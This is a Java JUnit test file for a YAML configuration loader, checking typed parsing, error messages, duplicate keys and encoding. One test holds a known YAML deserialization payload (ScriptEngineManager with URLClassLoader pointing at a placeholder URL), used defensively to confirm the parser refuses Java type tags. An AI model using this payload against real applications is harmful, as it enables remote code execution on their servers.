package org.mcpfront.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.vertx.core.json.JsonObject;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.assertj.core.api.ThrowableAssert.ThrowingCallable;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

@DisplayName("The config file is read as safe YAML")
class ConfigFilesTest {

    @TempDir
    Path dir;

    @Test
    @DisplayName("a file is read into a JSON object with typed scalars")
    void readsAFile() throws Exception {
        Path file = dir.resolve("mcp-front.yaml");
        Files.writeString(file, "server:\n  port: 8080\n  host: 127.0.0.1\ncluster:\n  enabled: false\n");

        JsonObject raw = ConfigFiles.read(file);

        assertThat(raw.getJsonObject("server").getValue("port")).isEqualTo(8080);
        assertThat(raw.getJsonObject("server").getValue("host")).isEqualTo("127.0.0.1");
        assertThat(raw.getJsonObject("cluster").getValue("enabled")).isEqualTo(false);
    }

    @Test
    @DisplayName("a missing file is named")
    void missingFile() {
        Path file = dir.resolve("absent.yaml");

        assertThat(problemsOf(() -> ConfigFiles.read(file))).containsExactly(file + ": no such file");
    }

    @Test
    @DisplayName("a file that cannot be read says why")
    void unreadableFile() {
        assertThat(problemsOf(() -> ConfigFiles.read(dir)))
                .singleElement()
                .asString()
                .startsWith(dir + ": cannot be read (");
    }

    @Test
    @DisplayName("invalid YAML is reported with its line and column")
    void invalidYaml() {
        String yaml = "oauth:\n  issuer: \"http://localhost:8080\"\n    identity: dev\n";

        assertThat(problemsOf(() -> parse(yaml)))
                .singleElement()
                .asString()
                .startsWith("test.yaml: invalid YAML at line 3, column 5: ");
    }

    @Test
    @DisplayName("a duplicate key is an error, not a silent override")
    void duplicateKey() {
        String yaml = "oauth:\n  issuer: a\n  issuer: b\n";

        assertThat(problemsOf(() -> parse(yaml)))
                .singleElement()
                .asString()
                .contains("line 3")
                .contains("duplicate key issuer");
    }

    @Test
    @DisplayName("a Java type tag is refused, nothing is constructed")
    void refusesJavaTypes() {
        String yaml = "oauth: !!javax.script.ScriptEngineManager "
                + "[!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n";

        assertThat(problemsOf(() -> parse(yaml))).singleElement().asString().startsWith("test.yaml: invalid YAML");
    }

    @Test
    @DisplayName("an explicitly tagged value that no key takes is named by its key path")
    void refusesUnusedTypes() {
        String yaml = "oauth:\n  issuer: !!binary aGVsbG8=\n";

        assertThat(problemsOf(() -> parse(yaml)))
                .singleElement()
                .asString()
                .startsWith("oauth.issuer: unsupported YAML value");
    }

    @Test
    @DisplayName("the top level must be a mapping")
    void topLevelList() {
        assertThat(problemsOf(() -> parse("- oauth\n- routes\n")))
                .singleElement()
                .asString()
                .isEqualTo("test.yaml: the top level must be a mapping of sections (oauth, routes, server, "
                        + "cluster), not a list");
    }

    @Test
    @DisplayName("an empty file is reported as empty")
    void emptyFile() {
        assertThat(problemsOf(() -> parse("# nothing yet\n")))
                .containsExactly("test.yaml: is empty; it needs at least an oauth: section");
    }

    @Test
    @DisplayName("a file that is not UTF-8 is reported")
    void notUtf8() {
        byte[] latin1 = "oauth:\n  issuer: caf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1);

        assertThat(problemsOf(() -> ConfigFiles.parse(latin1, "test.yaml")))
                .containsExactly("test.yaml: is not UTF-8 text");
    }

    private static JsonObject parse(String yaml) throws ConfigException {
        return ConfigFiles.parse(yaml.getBytes(StandardCharsets.UTF_8), "test.yaml");
    }

    private static List<String> problemsOf(ThrowingCallable read) {
        ConfigException e = catchThrowableOfType(ConfigException.class, read);
        assertThat(e).as("expected a ConfigException").isNotNull();
        return e.problems();
    }
}
